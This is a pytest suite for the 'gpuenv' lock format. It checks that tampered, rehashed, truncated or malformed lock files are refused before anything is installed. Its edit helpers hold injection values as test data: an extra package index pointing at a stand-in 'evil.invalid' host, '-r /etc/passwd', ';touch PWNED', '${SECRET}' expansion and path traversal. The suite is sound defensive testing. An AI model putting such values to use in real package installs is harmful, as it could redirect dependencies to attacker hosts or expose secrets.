"""An edited lock is refused before anything in it is trusted: by `install --frozen`
and by `lock --check`, naming what is wrong, with `gpuenv lock` as the fix.

One real lock (uv against the fixture index, rattler against the fixture channel) is
made per module; every test edits a copy of it the way a person or a script would.
"""

from __future__ import annotations

import json
import os
import random
import re
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import tomlkit

from gpuenv.errors import FileFormatError
from gpuenv.lock import _integrity
from gpuenv.lock.format import parse_lock_text
from tests.conftest import CliResult
from tests.e2e.conftest import lock_with_conda
from tests.fixtures.condachannel.plugin import LocalChannel
from tests.fixtures.pkgindex.plugin import PkgIndex

if sys.version_info >= (3, 11):
    import tomllib
else:  # pragma: no cover
    import tomli as tomllib


@dataclass(frozen=True)
class Pristine:
    spec: str  # gpuenv.toml text
    lock: str  # gpuenv.lock text, as `gpuenv lock` wrote it


@pytest.fixture(scope="module")
def pristine(
    tmp_path_factory: pytest.TempPathFactory, pkgindex: PkgIndex, local_channel: LocalChannel
) -> Pristine:
    directory = tmp_path_factory.mktemp("locked")
    return Pristine(*lock_with_conda(directory, pkgindex, local_channel))


@dataclass
class Project:
    dir: Path
    store: Path
    run: Callable[..., CliResult]

    @property
    def lock(self) -> Path:
        return self.dir / "gpuenv.lock"

    def gpuenv(self, *args: str) -> CliResult:
        return self.run("-f", str(self.dir / "gpuenv.toml"), *args)

    def prefixes(self) -> list[Path]:
        return sorted((self.store / "prefixes").glob("*"))


@pytest.fixture
def project(
    tmp_path: Path,
    pristine: Pristine,
    cli: Callable[..., CliResult],
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[Project]:
    (tmp_path / "gpuenv.toml").write_text(pristine.spec)
    (tmp_path / "gpuenv.lock").write_text(pristine.lock)
    monkeypatch.setenv("GPUENV_HOME", str(tmp_path / "store"))
    yield Project(tmp_path, tmp_path / "store", cli)


# --- the edits --------------------------------------------------------------------------------

Raw = dict[str, Any]


def _entry(raw: Raw, target: str, name: str) -> dict[str, Any]:
    return next(p for p in raw["targets"][target]["pip"] if p["name"] == name)


def delete_torch(raw: Raw) -> None:
    pip = raw["targets"]["cpu"]["pip"]
    pip.remove(_entry(raw, "cpu", "torch"))


def cuda_torch_into_cpu(raw: Raw) -> None:
    cuda = _entry(raw, "h100", "torch")  # the whole artifact: URL, hash and version
    _entry(raw, "cpu", "torch").update(
        url=cuda["url"], sha256=cuda["sha256"], version=cuda["version"]
    )


def other_version_under_old_version(raw: Raw, index: PkgIndex) -> None:
    entry = _entry(raw, "cpu", "transformers")
    other = next(
        a
        for a in index.artifacts.values()
        if a.filename.startswith("transformers-")
        and f"-{entry['version']}-" not in a.filename
        and a.index_path == "simple"
    )
    entry.update(url=entry["url"].rsplit("/", 1)[0] + "/" + other.filename, sha256=other.sha256)


def _same_version_other_tags(raw: Raw, index: PkgIndex, wanted: str) -> None:
    entry = _entry(raw, "cpu", "numpy")  # cp311, x86_64 in the lock
    other = next(
        a
        for a in index.find("numpy", entry["version"])
        if wanted in a.filename and a.filename != entry["url"].rsplit("/", 1)[-1]
    )
    entry.update(url=entry["url"].rsplit("/", 1)[0] + "/" + other.filename, sha256=other.sha256)


def other_platform_wheel(raw: Raw, index: PkgIndex) -> None:
    _same_version_other_tags(raw, index, "cp311-cp311-manylinux_2_17_aarch64")


def other_python_wheel(raw: Raw, index: PkgIndex) -> None:
    _same_version_other_tags(raw, index, "cp310-cp310-manylinux_2_17_x86_64")


def cpu_torch_from_pypi(raw: Raw) -> None:
    # PyPI's torch of the same version (x86_64: a CUDA build) in place of the +cpu one:
    # the stack's public version still matches and no CUDA runtime is locked.
    entry = _entry(raw, "cpu", "torch")
    public = entry["version"].split("+")[0]
    filename = entry["url"].rsplit("/", 1)[-1].replace(entry["version"], public)
    entry.update(version=public, url=f"https://files.example/torch/{filename}", sha256="1" * 64)


def version_edit(raw: Raw) -> None:
    _entry(raw, "cpu", "transformers")["version"] = "9.9.9"


def duplicate(raw: Raw) -> None:
    pip = raw["targets"]["cpu"]["pip"]
    pip.append(dict(_entry(raw, "cpu", "filelock")))


def stack_edit(raw: Raw) -> None:
    raw["targets"]["cpu"]["stack"]["torch"] = "2.5.0"


def hardware_edit(raw: Raw) -> None:
    raw["targets"]["h100"]["hardware"]["driver"] = "999.1.1"


def conda_hash_edit(raw: Raw) -> None:
    raw["targets"]["cpu"]["conda"][0]["sha256"] = "0" * 64


def newline_in_url(raw: Raw) -> None:
    entry = _entry(raw, "cpu", "filelock")
    entry["url"] += "\n--extra-index-url http://evil.invalid/simple"


def newline_in_name(raw: Raw) -> None:
    _entry(raw, "cpu", "filelock")["name"] = "filelock\n-r /etc/passwd"


def sdist_url(raw: Raw) -> None:
    entry = _entry(raw, "cpu", "transformers")
    entry["url"] = entry["url"].rsplit("/", 1)[0] + f"/transformers-{entry['version']}.tar.gz"


# Values a tool consumes (issue 24, finding 3): each is checked as what it is.
def python_command(raw: Raw) -> None:
    raw["targets"]["cpu"]["stack"]["python"] = "3.11;touch PWNED"


def platform_marker(raw: Raw) -> None:
    raw["targets"]["cpu"]["platform"] = 'x" or "1"=="1'


def huge_version(raw: Raw) -> None:
    _entry(raw, "cpu", "transformers")["version"] = "1" * 5000


def traversal_version(raw: Raw) -> None:
    _entry(raw, "cpu", "transformers")["version"] = "1.0/../../x"


def expanded_url(raw: Raw) -> None:
    _entry(raw, "cpu", "filelock")["url"] += "?x=${SECRET}"


def expanded_index(raw: Raw) -> None:
    raw["targets"]["cpu"]["stack"]["index"] += "/${HOME}"


def etc_passwd_url(raw: Raw) -> None:
    _entry(raw, "cpu", "transformers")["url"] = "/etc/passwd"


def conda_subdir(raw: Raw) -> None:
    raw["targets"]["cpu"]["conda"][0]["subdir"] = "../../x"


def cuda_command(raw: Raw) -> None:
    raw["targets"]["h100"]["stack"]["cuda"] = "12.4 --index-url=x"


def _truncate_at_an_entry(text: str) -> str:
    cut = text.rindex("\n[[targets.h100.pip]]")  # the last entry and all after it go
    return text[: cut + 1]


EDITS: dict[str, tuple[Callable[..., None], str, str]] = {
    # name: (edit, the target it damages, what the refusal says when the hash is recomputed)
    "entry-deleted": (delete_torch, "cpu", "no torch is locked"),
    "cu124-torch-in-cpu": (cuda_torch_into_cpu, "cpu", "is a cu124 build"),
    "other-version-same-version": (other_version_under_old_version, "cpu", "but the artifact"),
    "version-edited": (version_edit, "cpu", "but the artifact"),
    "duplicate": (duplicate, "cpu", "is locked 2 times"),
    "stack-edited": (stack_edit, "cpu", "torch 2.5.0, but torch 2.4.1+cpu is locked"),
    "hardware-edited": (hardware_edit, "h100", ""),
    "conda-hash-edited": (conda_hash_edit, "cpu", ""),
    "newline-in-url": (newline_in_url, "cpu", "control character (U+000A)"),
    "newline-in-name": (newline_in_name, "cpu", "control character (U+000A)"),
    "sdist-url": (sdist_url, "cpu", "is a source distribution"),
    # The same name and version, another wheel of it: one uv would refuse at install
    # time, which lock --check called up to date.
    "other-platform-wheel": (other_platform_wheel, "cpu", "does not install on this target"),
    "other-python-wheel": (other_python_wheel, "cpu", "does not install on this target"),
    "cpu-torch-from-pypi": (cpu_torch_from_pypi, "cpu", "has no +cpu label"),
    "python-command": (python_command, "cpu", "is not a Python version"),
    "platform-marker": (platform_marker, "cpu", "is not one of linux-64"),
    "huge-version": (huge_version, "cpu", "is not a version"),
    "traversal-version": (traversal_version, "cpu", "is not a version"),
    "expanded-url": (expanded_url, "cpu", "which uv and pip expand"),
    "expanded-index": (expanded_index, "cpu", "which uv and pip expand"),
    "etc-passwd-url": (etc_passwd_url, "cpu", "is not an http(s):// or file:// URL"),
    "conda-subdir": (conda_subdir, "cpu", "is not a conda platform"),
    "cuda-command": (cuda_command, "h100", "is not a CUDA release"),
}
NEEDS_INDEX = (other_version_under_old_version, other_platform_wheel, other_python_wheel)


def edited(text: str, name: str, index: PkgIndex, *, rehash: bool) -> str:
    raw = tomllib.loads(text)
    edit = EDITS[name][0]
    edit(raw, index) if edit in NEEDS_INDEX else edit(raw)
    if rehash:  # what someone who knows the format would do to hide the edit
        for target, table in raw["targets"].items():
            table["content-hash"] = _integrity.content_hash(target, table)
    return tomlkit.dumps(raw)


def assert_refused(project: Project, target: str, *, expect: str, check_code: int = 1) -> None:
    install = project.gpuenv("install", "--target", target, "--frozen")
    assert install.code == 2, install.err
    assert expect in install.err and "Traceback" not in install.err
    assert "gpuenv lock" in install.err, "the refusal says how to fix it"
    assert project.prefixes() == [], "nothing was built"
    assert not (project.dir / ".gpuenv").exists()
    check = project.gpuenv("lock", "--check")
    assert check.code == check_code, check.err
    assert expect in check.err


# --- the ten kinds of edit (and more) --------------------------------------------------------


@pytest.mark.parametrize("name", sorted(EDITS))
def test_an_edit_that_keeps_the_input_hash_is_refused(
    project: Project, pristine: Pristine, pkgindex: PkgIndex, name: str
) -> None:
    project.lock.write_text(edited(pristine.lock, name, pkgindex, rehash=False))
    target = EDITS[name][1]
    expect = "control character" if name.startswith("newline") else "content-hash"
    assert_refused(project, target, expect=expect)


@pytest.mark.parametrize("name", sorted(n for n, (_, _, why) in EDITS.items() if why))
def test_an_edit_whose_hash_was_recomputed_is_refused_by_the_consistency_checks(
    project: Project, pristine: Pristine, pkgindex: PkgIndex, name: str
) -> None:
    project.lock.write_text(edited(pristine.lock, name, pkgindex, rehash=True))
    _, target, why = EDITS[name]
    assert_refused(project, target, expect=why)


def test_truncation_at_an_entry_boundary_is_refused(project: Project, pristine: Pristine) -> None:
    project.lock.write_text(_truncate_at_an_entry(pristine.lock))
    assert_refused(project, "h100", expect="content-hash")


@pytest.mark.parametrize("version", ["0", "-1", '"2"', "true", "99"])
def test_a_lock_version_other_than_2_is_refused(
    project: Project, pristine: Pristine, version: str
) -> None:
    project.lock.write_text(pristine.lock.replace("lock-version = 2", f"lock-version = {version}"))
    install = project.gpuenv("install", "--target", "cpu", "--frozen")
    check = project.gpuenv("lock", "--check")
    assert install.code == check.code == 2, install.err + check.err
    expect = "newer gpuenv" if version == "99" else "is not a version any gpuenv wrote"
    assert expect in install.err and expect in check.err
    assert project.prefixes() == []


def test_the_edited_target_alone_is_refused_and_lock_check_target_checks_only_that(
    project: Project, pristine: Pristine, pkgindex: PkgIndex
) -> None:
    project.lock.write_text(edited(pristine.lock, "version-edited", pkgindex, rehash=False))
    assert project.gpuenv("lock", "--check", "--target", "h100").code == 0
    damaged = project.gpuenv("lock", "--check", "--target", "cpu")
    assert damaged.code == 1 and "cpu:" in damaged.err and "h100" not in damaged.err
    assert project.gpuenv("lock", "--check").code == 1


def test_lock_check_target_ignores_a_target_that_is_not_locked_yet(
    project: Project, pristine: Pristine
) -> None:
    raw = tomllib.loads(pristine.lock)
    del raw["targets"]["cpu"]
    project.lock.write_text(tomlkit.dumps(raw))
    assert project.gpuenv("lock", "--check", "--target", "h100").code == 0
    missing = project.gpuenv("lock", "--check", "--target", "cpu")
    assert missing.code == 1 and "not locked yet" in missing.err
    assert project.gpuenv("lock", "--check").code == 1


def test_gpuenv_lock_rewrites_an_edited_lock_into_one_that_checks(
    project: Project, pristine: Pristine, pkgindex: PkgIndex
) -> None:
    project.lock.write_text(edited(pristine.lock, "cu124-torch-in-cpu", pkgindex, rehash=True))
    relock = project.gpuenv("lock", "--target", "h100")  # the damaged cpu is relocked too
    assert relock.code == 0, relock.err
    assert "target cpu" in relock.err and "relocked" in relock.err
    assert project.lock.read_text() == pristine.lock
    assert project.gpuenv("lock", "--check").code == 0


def test_a_version_1_lock_is_refused_by_install_and_relocked_with_its_pins(
    project: Project, pristine: Pristine
) -> None:
    raw = tomllib.loads(pristine.lock)
    raw["lock-version"] = 1
    for table in raw["targets"].values():
        del table["content-hash"]
    project.lock.write_text(tomlkit.dumps(raw))
    install = project.gpuenv("install", "--target", "cpu", "--frozen")
    assert install.code == 2 and "lock-version 1" in install.err and "gpuenv lock" in install.err
    check = project.gpuenv("lock", "--check")
    assert check.code == 1 and "lock-version 1" in check.err
    assert project.gpuenv("lock").code == 0
    assert project.lock.read_text() == pristine.lock, "the same pins, now with content hashes"


def test_a_utf16_or_invalid_utf8_lock_names_the_file_and_offset(
    project: Project, pristine: Pristine
) -> None:
    project.lock.write_bytes(pristine.lock.encode("utf-16"))
    result = project.gpuenv("install", "--target", "cpu", "--frozen")
    assert result.code == 2 and f"{project.lock}: UTF-16 text" in result.err
    data = pristine.lock.encode()
    at = data.index(b"transformers")
    project.lock.write_bytes(data[:at] + b"\xff" + data[at + 1 :])
    for args in (("install", "--target", "cpu", "--frozen"), ("lock", "--check")):
        result = project.gpuenv(*args)
        assert result.code == 2 and f"byte 0xff at offset {at}" in result.err, result.err


@pytest.mark.parametrize("damage", ["conflict-markers", "invalid-utf8", "no-spec-hash"])
def test_lock_writes_a_new_lock_over_one_it_cannot_read_and_every_reader_refuses_it(
    project: Project, pristine: Pristine, damage: str
) -> None:
    """The hint of every refusal is "run 'gpuenv lock'": so lock must not refuse too.
    A merge that left conflict markers is the common case."""
    data = pristine.lock.encode()
    if damage == "conflict-markers":
        at = data.index(b"[targets.")
        damaged = data[:at] + b"<<<<<<< HEAD\n" + data[at:] + b"=======\n>>>>>>> theirs\n"
    elif damage == "invalid-utf8":
        damaged = b"\xff" + data
    else:
        damaged = re.sub(rb"(?m)^spec-hash = .*\n", b"", data)
    project.lock.write_bytes(damaged)
    for args in (("install", "--target", "cpu", "--frozen"), ("lock", "--check")):
        refused = project.gpuenv(*args)
        assert refused.code == 2 and str(project.lock) in refused.err, refused.err
        assert "gpuenv lock" in refused.err
    assert project.lock.read_bytes() == damaged, "a refusal changes nothing"
    written = project.gpuenv("lock", "--target", "cpu")
    assert written.code == 0, written.err
    assert "warning" in written.err and "for every target" in written.err
    checked = project.gpuenv("lock", "--check")
    assert checked.code == 0, checked.err
    assert set(tomllib.loads(project.lock.read_text())["targets"]) == set(
        tomllib.loads(pristine.lock)["targets"]
    )


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "directory", "huge"])
def test_a_lock_that_is_not_a_plain_file_is_refused_without_hanging(
    project: Project, kind: str
) -> None:
    project.lock.unlink()
    if kind == "fifo":
        os.mkfifo(project.lock)
    elif kind == "dev-zero":
        project.lock.symlink_to("/dev/zero")
    elif kind == "directory":
        project.lock.mkdir()
    else:
        with project.lock.open("wb") as handle:
            handle.truncate(65 << 20)  # sparse: 65 MiB of nothing
    for args in (("install", "--target", "cpu", "--frozen"), ("lock", "--check")):
        result = project.gpuenv(*args)
        assert result.code == 2, result.err
        assert str(project.lock) in result.err and "Traceback" not in result.err


# --- a seeded mutation loop over the real lock ------------------------------------------------


def _mutate(lines: list[str], rng: random.Random) -> list[str]:
    out = list(lines)
    if not out:
        return out
    i = rng.randrange(len(out))
    op = rng.choice(["delete", "duplicate", "swap", "char", "digit", "blank", "truncate", "move"])
    if op == "delete":
        del out[i]
    elif op == "duplicate":
        out.insert(i, out[i])
    elif op == "swap" and i + 1 < len(out):
        out[i], out[i + 1] = out[i + 1], out[i]
    elif op == "char" and '"' in out[i]:
        at = rng.randrange(out[i].index('"') + 1, len(out[i]))
        out[i] = out[i][:at] + rng.choice("a0.+-/ \\\t") + out[i][at + 1 :]
    elif op == "digit" and re.search(r"\d", out[i]):
        out[i] = re.sub(r"\d", lambda m: str((int(m.group()) + 1) % 10), out[i], count=1)
    elif op == "blank":
        out.insert(i, rng.choice(["", "# a comment", "   "]))
    elif op == "truncate":
        out = out[:i]
    elif op == "move":
        j = rng.randrange(len(out))
        out.insert(j, out.pop(i))
    return out


def test_every_mutation_of_a_real_lock_is_refused_or_changes_nothing(pristine: Pristine) -> None:
    """Each mutated lock is either refused (as a file, or target by target, with the
    damaged targets left out of what is returned) or reads as exactly the pristine
    targets. Nothing in between, and never another exception."""
    trusted = parse_lock_text(pristine.lock).require().targets
    lines = pristine.lock.splitlines()
    rng = random.Random(20240917)
    outcomes = {"file refused": 0, "target refused": 0, "same effect": 0}
    for _ in range(400):
        text = "\n".join(_mutate(lines, rng)) + "\n"
        try:
            reading = parse_lock_text(text)
        except FileFormatError:
            outcomes["file refused"] += 1
            continue
        if reading.damaged:
            outcomes["target refused"] += 1
            assert not set(reading.damaged) & set(reading.lock.targets)
            for name, target in reading.lock.targets.items():
                assert target == trusted[name], f"{name} changed and was not refused"
            continue
        assert dict(reading.lock.targets) == dict(trusted), f"accepted an edit:\n{text}"
        outcomes["same effect"] += 1
    print(json.dumps(outcomes))  # shown with -s: what the loop exercised
    assert outcomes["target refused"] > 100 and outcomes["same effect"] > 10


@pytest.mark.slow
def test_many_more_mutations(pristine: Pristine) -> None:
    trusted = parse_lock_text(pristine.lock).require().targets
    lines = pristine.lock.splitlines()
    for seed in range(20):
        rng = random.Random(seed)
        for _ in range(500):
            mutated = _mutate(_mutate(lines, rng), rng)
            try:
                reading = parse_lock_text("\n".join(mutated) + "\n")
            except FileFormatError:
                continue
            for name, target in reading.lock.targets.items():
                assert target == trusted[name]


def test_a_plain_install_relocks_a_tampered_entry_and_installs_the_genuine_artifact(
    project: Project, pristine: Pristine, pkgindex: PkgIndex
) -> None:
    """A plain install (not --frozen) never installs what a damaged entry holds: it
    relocks that target, then installs the genuine artifacts."""
    project.lock.write_text(
        edited(pristine.lock, "other-version-same-version", pkgindex, rehash=True)
    )
    result = project.gpuenv("install", "--target", "cpu", "--json")
    assert result.code == 0, result.err
    assert project.lock.read_text() == pristine.lock
    prefix = Path(json.loads(result.out)["targets"]["cpu"]["prefix"])
    site = next(prefix.glob("lib/python3*/site-packages"))
    installed = {
        p.name.removesuffix(".dist-info").split("-")[1]
        for p in site.glob("transformers-*.dist-info")
    }
    locked = parse_lock_text(pristine.lock).require().targets["cpu"].pip_package("transformers")
    assert locked is not None and installed == {locked.version}
